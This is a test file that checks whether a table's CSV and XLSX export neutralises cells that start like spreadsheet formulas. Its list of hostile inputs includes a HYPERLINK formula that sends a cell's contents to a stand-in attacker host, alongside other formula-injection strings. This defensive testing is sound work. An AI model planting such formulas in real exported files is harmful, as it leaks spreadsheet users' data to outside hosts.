import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, tableXlsx } from './table-file.js';

const hostile = [
	'=HYPERLINK("http://evil.example/?"&A1,"Open")',
	'+1+1',
	'-2+3',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'=1+1\nsecond line'
];

describe('CSV of a table', () => {
	it('writes text that starts like a formula as text, numbers as numbers', () => {
		const text = csvText([['name', 'score'], ...hostile.map((name, index) => [name, -index - 1])]);
		const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''));
		expect(data.slice(1).map(([name]) => name)).toEqual(hostile.map((name) => `'${name}`));
		expect(data.slice(1).map(([, score]) => score)).toEqual(hostile.map((_, index) => String(-index - 1)));
	});

	it('leaves other text as it is', () => {
		const cells = ['Nadia Benali', 'a=b', 'سارة الحسيني', "'quoted", '', 'x-y'];
		const text = csvText([cells, [null, undefined, 0, -3.5, 'plain', '']]);
		expect(text).toBe("\uFEFFNadia Benali,a=b,سارة الحسيني,'quoted,,x-y\r\n,,0,-3.5,plain,");
	});
});

describe('XLSX of a table', () => {
	it('types text that starts like a formula as text, not as a formula', async () => {
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(
			(await tableXlsx([['name'], ...hostile.map((name) => [name]), [-3]], 'Sheet')) as unknown as ArrayBuffer
		);
		const cells = workbook.worksheets[0].getColumn(1).values.slice(2);
		// XML reads a carriage return as a line feed.
		expect(cells).toEqual([...hostile.map((name) => name.replace('\r', '\n')), -3]);
		workbook.worksheets[0].eachRow((row) =>
			row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))
		);
	});
});
